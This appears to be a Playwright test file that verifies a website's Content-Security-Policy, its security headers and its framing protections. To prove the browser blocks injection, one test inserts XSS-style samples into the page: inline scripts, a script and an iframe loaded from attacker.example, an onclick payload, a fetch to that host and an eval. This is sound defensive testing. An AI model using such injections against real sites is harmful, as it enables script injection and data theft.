import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { href } from '../../../app/href';
import { addresses } from '../support/addresses';
import { expect, test } from '../support/fixtures';

const site = 'build/client';
const files = readdirSync(site, { recursive: true, withFileTypes: true })
  .filter((entry) => entry.isFile())
  .map((entry) => `${entry.parentPath}/${entry.name}`.slice(site.length));
const pages = files.filter((file) => file.endsWith('.html'));

test('every page runs only its own scripts and reaches only us and the map', () => {
  for (const file of pages) {
    const html = readFileSync(`${site}${file}`, 'utf8');
    const policies = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="(.*?)"/g)];
    expect(policies, file).toHaveLength(1);
    const policy = sourcesOf(policies[0]?.[1] ?? '');
    const allowed = (directive: string) => policy.get(directive) ?? policy.get('default-src') ?? ['*'];

    const ownOrHash = /^'(self|none|sha256-[A-Za-z0-9+/]{43}=)'$/;
    for (const directive of ['script-src', 'style-src', 'worker-src', 'manifest-src', 'font-src', 'media-src'])
      for (const source of allowed(directive)) expect(source, `${file}, ${directive}`).toMatch(ownOrHash);
    for (const source of allowed('img-src')) expect(source, file).toMatch(/^'self'$|^data:$/);
    // Browsers request /favicon.ico without being asked, and Firefox reports a policy that forbids it.
    expect(allowed('img-src'), file).toContain("'self'");
    expect([["'none'"], ['https://www.openstreetmap.org']], file).toContainEqual(allowed('frame-src'));
    // Other origins only if configured in the build. Unlike `connect-src`, `form-action` doesn't fall back to `default-src`.
    const mail = process.env.VITE_MAIL_ORIGIN ? [process.env.VITE_MAIL_ORIGIN] : [];
    for (const sources of [allowed('connect-src'), policy.get('form-action')])
      expect([["'none'"], ["'self'", ...mail]], file).toContainEqual(sources);
    expect(policy.get('base-uri'), file).toEqual(["'none'"]);
    expect(allowed('object-src'), file).toEqual(["'none'"]);

    // The policy applies only to elements after it.
    expect(html.search(/<(script|style|link|img)\b/), file).toBeGreaterThan(policies[0]?.index ?? Infinity);
    for (const [, attributes = '', code = ''] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
      // Data for search engines isn't a script, so the policy doesn't apply.
      if (attributes.includes('application/ld+json')) continue;
      expect(attributes, `${file}: a script from elsewhere`).not.toContain('src=');
      const hash = createHash('sha256').update(code).digest('base64');
      expect(allowed('script-src'), file).toContain(`'sha256-${hash}'`);
    }
    expect(html, file).not.toMatch(/<[^>]+\s(on[a-z]+="|(href|src|action)="javascript:)/i);
  }
});

test('/favicon.ico exists', async ({ request }) => {
  const icon = await request.get('/favicon.ico', { maxRedirects: 0 });
  expect([icon.status(), icon.headers()['content-type']]).toEqual([200, expect.stringMatching(/^image\//)]);
});

test('every response of the server has the security headers', async ({ request }) => {
  const script = files.find((file) => /^\/assets\/.*\.js$/.test(file)) ?? '';
  for (const path of [...addresses.map((address) => address.path), '/icon.svg', script]) {
    const headers = (await request.get(path, { maxRedirects: 0 })).headers();
    expect(headers, path).toMatchObject({
      'content-security-policy': "frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'permissions-policy': 'camera=(), microphone=(), geolocation=(), payment=(), usb=(), browsing-topics=()',
      'cross-origin-opener-policy': 'same-origin',
    });
    expect(headers, path).not.toHaveProperty('strict-transport-security');
  }
  const overTls = await request.get('/', { headers: { 'X-Forwarded-Proto': 'https' } });
  expect(overTls.headers()['strict-transport-security']).toBe('max-age=31536000');
});

test('injected scripts and styles are blocked', async ({ page, visit, expectProblem }) => {
  expectProblem(/Content Security Policy|attacker\.example/);
  await visit('/');
  const refused = await page.evaluateHandle(() => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      refused.push(`${effectiveDirective} ${blockedURI}`),
    );
    const put = (tag: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(tag), properties));
    put('script', { textContent: 'document.title = "attacked"' });
    put('script', { src: 'https://attacker.example/x.js' });
    put('p', { innerHTML: '<b onclick="document.title = `attacked`">' });
    document.querySelector<HTMLElement>('b[onclick]')?.click();
    put('iframe', { src: 'https://attacker.example/' });
    fetch('https://attacker.example/').catch(() => undefined);
    // The page must call `eval` in a task of its own: code that a test evaluates may be exempt from the policy.
    setTimeout(() => void eval('document.title = "attacked"'));
    return refused;
  });
  await expect
    .poll(async () => (await refused.jsonValue()).sort())
    .toEqual([
      'connect-src https://attacker.example/',
      'frame-src https://attacker.example',
      'script-src eval',
      'script-src-attr inline',
      'script-src-elem https://attacker.example/x.js',
      'script-src-elem inline',
    ]);
  await expect(page).not.toHaveTitle('attacked');
});

test('our pages can’t be framed, not even by our own origin', async ({ page, expectProblem }) => {
  expectProblem(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE/);
  const body = `<iframe src="${href('/')}" title="framed"></iframe>`;
  await page.route(href('/framing'), (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/framing');
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});

/** A policy as directive → sources. */
function sourcesOf(policy: string): Map<string, string[]> {
  return new Map(
    policy.split(';').map((directive): [string, string[]] => {
      const [name = '', ...sources] = directive.trim().split(/\s+/);
      return [name, sources];
    }),
  );
}
